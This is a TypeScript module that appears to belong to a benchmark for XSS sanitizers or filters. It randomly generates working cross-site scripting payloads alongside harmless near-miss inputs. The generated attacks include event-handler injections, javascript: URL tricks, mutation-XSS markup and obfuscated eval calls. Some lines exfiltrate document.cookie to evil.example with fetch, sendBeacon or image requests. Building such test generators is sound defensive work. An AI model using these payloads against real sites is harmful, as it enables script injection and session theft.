/**
 * A grammar of cross-site scripting and of what only looks like it, walked by a seeded random source. It follows what
 * browsers do, not lists: elements, attributes, separators, encodings, ways to call a function. The oracle has the
 * last word on what runs; what the grammar holds for an attack and no browser runs counts for nothing.
 */
import { createRandom, pick, type Random } from "../../bench/random.ts";
import type { ContextName } from "./contexts.ts";

/** A value with the contexts it was made for. */
export interface Case {
  readonly value: string;
  readonly contexts: readonly ContextName[];
}

const EVENTS = [
  ...["onclick", "onmouseover", "onfocus", "onerror", "onload", "ontoggle", "onpointerenter", "onanimationstart"],
  ...["onscroll", "onwheel", "oninput", "onbeforetoggle", "onkeydown", "oncopy", "ondragstart", "ontransitionend"],
  ...["onauxclick", "oncontextmenu", "onfocusin", "ongotpointercapture", "onscrollend", "onsubmit", "onpaste"],
];
const TAGS = [
  ...["img", "svg", "p", "b", "details", "video", "audio", "input", "select", "marquee", "x-widget", "a", "body"],
  ...["math", "textarea", "button", "dialog", "meter", "custom", "table", "iframe", "object", "form", "keygen", "x:y"],
];
const EXTRAS = [
  "src=x",
  "open",
  "autofocus",
  "tabindex=1",
  "id=a",
  "class='b c'",
  'title="1>0"',
  "x",
  'alt=""',
  "href=#",
];
const GAPS = [" ", "/", "\t", "\n", "\f", "  ", "/ ", " / ", "\r\n"];
const FOREIGN = ["//evil.example/x", "https://evil.example/x.js", "data:,alert(1)"];
const ANIMATED = "attributeName=x dur=1s";
const SINKS = ["alert", "confirm", "prompt", "print"];
const ARGUMENTS = ["1", "document.domain", "/x/", "name", "'x'", '"x"', "`x`", "", "1,2", "self.origin"];

/** The random source with what the grammar asks of it. */
export class Walk {
  readonly #random: Random;

  constructor(seed: number) {
    this.#random = createRandom(seed);
  }

  below(bound: number): number {
    return this.#random(bound);
  }

  chance(percent: number): boolean {
    return this.below(100) < percent;
  }

  pick<T>(from: readonly T[]): T {
    return pick(this.#random, from);
  }
}

function mixCase(walk: Walk, text: string): string {
  return walk.chance(60) ? text : text.replace(/[a-z]/g, (c) => (walk.chance(50) ? c.toUpperCase() : c));
}

/** A string of script with that text, in pieces now and then. */
function stringOf(walk: Walk, text: string): string {
  const quote = walk.pick(["'", '"', "`"]);
  if (text.length < 3 || walk.chance(60)) return `${quote}${text}${quote}`;
  const cut = 1 + walk.below(text.length - 1);
  return `${quote}${text.slice(0, cut)}${quote}+${quote}${text.slice(cut)}${quote}`;
}

/**
 * Code that runs as soon as it is evaluated: a call in one of the ways that the language has for it. `print` is left
 * out where a URL or an expression is the whole value: pages link to it, and it shows nobody's secrets.
 */
function codeOf(walk: Walk): string {
  const sink = walk.pick(SINKS);
  const call = `${sink}(1)`;
  const root = walk.pick(["window", "self", "globalThis", "this", "top", "parent", "frames", "document.defaultView"]);
  const makers: readonly (() => string)[] = [
    () => `${sink}(${walk.pick(ARGUMENTS)})`,
    () => `${sink}\`1\``,
    () => `${root}.${call}`,
    () => `${root}[${stringOf(walk, sink)}](1)`,
    () => `${root}[/${sink.slice(0, 2)}/.source+${stringOf(walk, sink.slice(2))}](1)`,
    () => `(${sink})(1)`,
    () => `[${sink}][0](1)`,
    () => `${sink}?.(1)`,
    () => `${sink}.${walk.pick(["call", "apply"])}()`,
    () => `[1].${walk.pick(["map", "find", "forEach", "some", "filter", "findLast"])}(${sink})`,
    () => `Reflect.apply(${sink},null,[1])`,
    () => `Array.from([1],${sink})`,
    () => `${walk.pick(["setTimeout", "setInterval"])}(${stringOf(walk, call)})`,
    () => `setTimeout(${sink})`,
    () => `Function(${stringOf(walk, call)})()`,
    () => `new Function(${stringOf(walk, call)})()`,
    () => `[].constructor.constructor(${stringOf(walk, call)})()`,
    () => `[][${stringOf(walk, "flat")}][${stringOf(walk, "constructor")}](${stringOf(walk, call)})()`,
    () => `eval(${stringOf(walk, call)})`,
    () => `(0,eval)(${stringOf(walk, call)})`,
    () => `eval(atob('${Buffer.from(call).toString("base64")}'))`,
    () => `eval(String.fromCharCode(${[...call].map((c) => c.charCodeAt(0)).join(",")}))`,
    () => `${sink.replace(/^./, (c) => `\\u00${c.charCodeAt(0).toString(16)}`)}(1)`,
    () => `x=${sink};x(1)`,
    () => `var{${sink}:y}=window;y(1)`,
    () => `onerror=${sink};throw 1`,
    () => `(()=>${call})()`,
    () => `(function(){${call}})()`,
    () => `if(1)${call}`,
    () => `1&&${call}`,
    () => `void ${call}`,
    () => `'x'.replace(/x/,${sink})`,
    () => `location='javascript:${call}'`,
    () => `document.body.innerHTML='<img src onerror=${call}>'`,
    () => `document.write('<script>${call}<\\/script>')`,
    () => `fetch('//evil.example/'+document.cookie)`,
    () => `import('//evil.example/x.js')`,
    () => `new Image().src='//evil.example/?'+document.cookie`,
    () => `navigator.sendBeacon('//evil.example/',document.cookie)`,
    () => `Promise.resolve(1).then(${sink})`,
    () => `${sink}/**/(1)`,
    () => `/*x*/${call}//y`,
  ];
  return walk.pick(makers)();
}

/** Code without some characters, because of where it is to stand. */
function codeWithout(walk: Walk, unwanted: RegExp): string {
  for (let attempt = 0; attempt < 30; attempt++) {
    const code = codeOf(walk);
    if (!unwanted.test(code)) return code;
  }
  return "alert(1)";
}

function reference(walk: Walk, c: string): string {
  const code = c.codePointAt(0) ?? 0;
  const named = (
    { "(": "&lpar;", ")": "&rpar;", ":": "&colon;", "'": "&apos;", "`": "&grave;" } as Record<string, string>
  )[c];
  return walk.pick([
    `&#${code};`,
    `&#x${code.toString(16)};`,
    `&#X${code.toString(16).toUpperCase()};`,
    `&#${String(code).padStart(7, "0")};`,
    ...(named === undefined ? [] : [named]),
  ]);
}

/** Text of an attribute, some characters as references. */
function referenced(walk: Walk, text: string): string {
  const percent = walk.pick([0, 0, 0, 8, 30, 100]);
  return [...text].map((c) => (walk.chance(percent) ? reference(walk, c) : c)).join("");
}

/** `name=value` with a quoting that holds the value. */
function attribute(walk: Walk, name: string, value: string): string {
  const space = walk.chance(10) ? walk.pick([" ", "\n", "\t"]) : "";
  const text = referenced(walk, value);
  const quotes = ['"', "'"].filter((quote) => !text.includes(quote));
  if (!/[\s"'`<>=]/.test(text) && (quotes.length === 0 || walk.chance(40))) return `${name}${space}=${space}${text}`;
  const quote = quotes.length === 0 ? '"' : walk.pick(quotes);
  return `${name}${space}=${space}${quote}${text.replaceAll(quote, quote === '"' ? "&quot;" : "&#39;")}${quote}`;
}

function schemeOf(walk: Walk, code: string): string {
  const scheme = mixCase(walk, "javascript");
  const cut = walk.below(scheme.length);
  const gap = walk.pick(["", "", "", "\t", "\n", "\r"]);
  const lead = walk.pick(["", "", "", " ", "\u0001", "\n"]);
  const between = walk.pick(["", "", "", "//%0a", "/*x*/", "void(0);", "1;"]);
  const escaped = walk.chance(15) ? code.replace(/[a-z]/, (c) => `%${c.charCodeAt(0).toString(16)}`) : code;
  return `${lead}${scheme.slice(0, cut)}${gap}${scheme.slice(cut)}:${between}${escaped}`;
}

/** An element that runs code once it stands in a page. */
function elementOf(walk: Walk): string {
  const gap = () => walk.pick(GAPS);
  const extra = () => (walk.chance(35) ? `${gap()}${walk.pick(EXTRAS)}` : "");
  const tag = (name: string) => mixCase(walk, name);
  const event = () => {
    const name = walk.pick(EVENTS);
    return `<${tag(walk.pick(TAGS))}${extra()}${gap()}${attribute(walk, mixCase(walk, name), codeOf(walk))}${extra()}>`;
  };
  const url = () => schemeOf(walk, codeWithout(walk, /[<>%\n]|\/\/|pri/));
  const page = () => `<script>${codeWithout(walk, /[%#]|\.cookie|top|parent|frames|<\//)}</script>`;
  const makers: readonly (() => string)[] = [
    event,
    event,
    event,
    event,
    () =>
      `<${tag("script")}${extra()}>${codeWithout(walk, /<\//)}</${tag("script")}${walk.pick(["", " ", "/", "\n"])}>`,
    () => `<${tag("script")}${gap()}src=${walk.pick(FOREIGN)}></script>`,
    () => `<svg${extra()}><${tag("script")}>${referenced(walk, codeWithout(walk, /[<&]/))}</script>`,
    () => `<svg><script href=//evil.example/x.js></script></svg>`,
    () => `<${tag(walk.pick(["a", "area"]))}${extra()}${gap()}${attribute(walk, mixCase(walk, "href"), url())}>x`,
    () => `<${tag("form")}${gap()}${attribute(walk, "action", url())}><input type=submit>`,
    () => `<form><${tag("button")}${gap()}${attribute(walk, mixCase(walk, "formaction"), url())}>x`,
    () => `<${tag("iframe")}${extra()}${gap()}${attribute(walk, "src", url())}>`,
    () => `<${tag("svg")}><a${gap()}${attribute(walk, "xlink:href", url())}><text y=9>x</text></a>`,
    () => `<iframe${gap()}${attribute(walk, "srcdoc", page())}></iframe>`,
    () =>
      `<${walk.pick(["iframe src", "object data", "embed src"])}="data:text/html,${page().replaceAll('"', "%22")}">`,
    () => `<iframe src="data:text/html;base64,${Buffer.from(page()).toString("base64")}">`,
    () => `<svg><${walk.pick(["animate", "set"])}${gap()}${attribute(walk, "onbegin", codeOf(walk))} ${ANIMATED}>`,
    () => `<template shadowrootmode=open>${event()}</template>`,
    () => `<base${gap()}href=//evil.example/><script src=x.js></script>`,
  ];
  return walk.pick(makers)();
}

/** Markup that a parser turns into another tree than a filter would. */
function mutationOf(walk: Walk): string {
  const inner = elementOf(walk);
  return walk.pick([
    `<noscript><p title="</noscript>${inner}">`,
    `<svg><style><!--</style>${inner}`,
    `<math><mtext><table><mglyph><style>${inner}`,
    `<select><option>${inner}`,
    `<xmp><p title="</xmp>${inner}">`,
    `<!--><b>-->${inner}`,
    `<svg></p>${inner}`,
    `<![CDATA[x]]>${inner}`,
    `<p title='a>${inner}`,
    `<a href="x"y=1>${inner}`,
    `<b <i>${inner}`,
    `</b x=">">${inner}`,
  ]);
}

/** Leaves a context and runs code. */
function breakOf(walk: Walk): Case {
  const element = () => (walk.chance(15) ? mutationOf(walk) : elementOf(walk));
  const script = (quote: string): string => {
    const code = codeWithout(walk, new RegExp(`<\\/|\\/\\*x|${quote === "`" ? "`" : "\n"}`));
    const words = walk.pick(["", "", "x", "Ann Lee", "42"]);
    const expression = codeWithout(walk, /[;{]|^if|throw|void |\/\/|<\//);
    return walk.pick([
      `${words}${quote};${code}//`,
      `${words}${quote};${code};${quote}`,
      `${words}${quote}-${expression}-${quote}`,
      `${words}${quote}+${expression}+${quote}`,
      `${words}${quote}||${expression}||${quote}`,
      `${words}${quote},z=${expression},w=${quote}`,
      `${words}${quote}?${expression}:${quote}`,
      `${words}${quote}\n${code}//`,
      `${words}${quote}/${expression}/${quote}`,
      `${words}</${mixCase(walk, "script")}>${element()}`,
    ]);
  };
  const inside = (quote: string): string => {
    const code = codeWithout(walk, new RegExp(`[${quote}]`));
    const name = mixCase(walk, walk.pick(EVENTS));
    const outer = quote === "" ? (/["'\s<>=`]/.test(code) ? "alert(1)" : code) : code;
    const gap = walk.pick(GAPS.filter((one) => one.trim() === "" || quote !== ""));
    return `${walk.pick(["", "x"])}${quote}${gap}${walk.pick([
      `${name}=${quote}${outer}`,
      `${name}=${quote}${outer}${quote}`,
      `autofocus${walk.pick([" ", "\n"])}${name}=${quote}${outer}`,
    ])}`;
  };
  const makers: readonly (() => Case)[] = [
    () => ({ value: `${walk.pick(["", "", "x ", "</p>"])}${element()}`, contexts: ["text", "sink"] }),
    () => ({ value: `${walk.pick(["", "", "x "])}${element()}`, contexts: ["text", "sink"] }),
    () => ({ value: mutationOf(walk), contexts: ["text", "sink"] }),
    () => ({ value: `"${walk.pick(["", "/", " x"])}>${element()}`, contexts: ["double"] }),
    () => ({ value: `'>${element()}`, contexts: ["single"] }),
    () => ({ value: inside('"'), contexts: ["double"] }),
    () => ({ value: inside("'"), contexts: ["single"] }),
    () => ({ value: inside(""), contexts: ["bare"] }),
    () => ({ value: `${walk.pick(["-->", "--!>", ">", "x-->"])}${element()}`, contexts: ["comment"] }),
    () => ({ value: `</${walk.pick(["textarea", "TextArea "])}>${element()}`, contexts: ["textarea"] }),
    () => ({ value: `</title${walk.pick(["", "/", " x"])}>${element()}`, contexts: ["title"] }),
    () => ({ value: `red}</style>${element()}`, contexts: ["style"] }),
    () => ({ value: script("'"), contexts: ["singleString"] }),
    () => ({ value: script('"'), contexts: ["doubleString"] }),
    () => ({ value: script("`"), contexts: ["template"] }),
    () => ({ value: `x\${${codeWithout(walk, /[;{}`]|^if|throw|\/\/|pri/)}}`, contexts: ["template"] }),
    () => ({ value: `'${walk.pick(["}),", "});"])}${codeWithout(walk, /\n|<\//)}//`, contexts: ["argument"] }),
    () => ({ value: `',k:${codeWithout(walk, /[;]|^if|throw|\/\/|<\//)},l:'`, contexts: ["argument"] }),
    () => ({ value: `');${codeWithout(walk, /["\n<]/)}//`, contexts: ["handler"] }),
    () => ({ value: `</script>${element()}`, contexts: ["document"] }),
    () => ({ value: schemeOf(walk, codeWithout(walk, /["<>\n%]|pri/)), contexts: ["href", "frame", "location"] }),
  ];
  return walk.pick(makers)();
}

/** @returns a value that ought to run code in its contexts */
export function attackOf(walk: Walk): Case {
  return breakOf(walk);
}

const PLACES: readonly ContextName[] = [
  "text",
  "double",
  "single",
  "bare",
  "href",
  "singleString",
  "doubleString",
  "sink",
];

/** @returns a value as people, editors and programs send them, made of the same signs */
export function nearMissOf(walk: Walk): Case {
  const word = () =>
    walk.pick(["save", "order", "alert", "onload", "script", "price", "location", "eval", "Function", "x"]);
  const words = () => Array.from({ length: 2 + walk.below(5) }, word).join(" ");
  const value = walk.pick<() => string>([
    () => `<p style="color:#${walk.below(900) + 100};margin:0 auto">${words()} <b>${word()}</b></p>`,
    () => `<a href="https://shop.example/${word()}?on${word()}=1" target="_blank">${words()}</a>`,
    () => `<ul><li>${words()}</li><li><img src="https://cdn.example/${word()}.png" alt="${words()}"></li></ul>`,
    () => `if a < b and ${word()} > c (${words()})`,
    () => `${word()} <${word()}@mail.example> wrote: "${words()}"`,
    () => `Map<${word()}, List<${word()}>> = new TreeMap<>()`,
    () => `<Button onClick={() => ${word()}} style={{ color: "red" }}>${words()}</Button>`,
    () => `<div @click="${word()}" :class="{ on: ${word()} }">${words()}</div>`,
    () => `it's "${word()}" (or ${word()}), isn't it? 'yes' - ${words()}`,
    () => `'${word()}', "${word()}" and \`${word()}\``,
    () => `TypeError: ${word()} is not a function at ${word()} (https://shop.example/${word()}.js:1:20)`,
    () => `p { color: red; background: url(https://cdn.example/${word()}.png) } .on${word()} { margin: 0 }`,
    () => `${word()}=1&on${word()}=${word()}&next=/shop/?q=${word()}`,
    () => `{"${word()}": "${words()}", "on": [1, 2]}`,
    () => `The <script> tag, the ${word()} attribute and javascript: URLs (${words()})`,
    () => `## ${words()}\n\n* [${word()}](https://shop.example/a_(b))\n* \`${word()}\`: 1 < 2`,
    () => `${word()} -> ${word()} <- ${word()} <3 :-) (^_^) ${words()}`,
    () => `SELECT ${word()} FROM t WHERE a = 'x' AND b < 3`,
    () => `function ${word()}2(a, b) { return a + b; }`,
    () => `const ${word()}3 = [1, 2].map((n) => n * 2);`,
    () => `window.location.href contains ${word()}`,
  ])();
  return { value, contexts: PLACES };
}
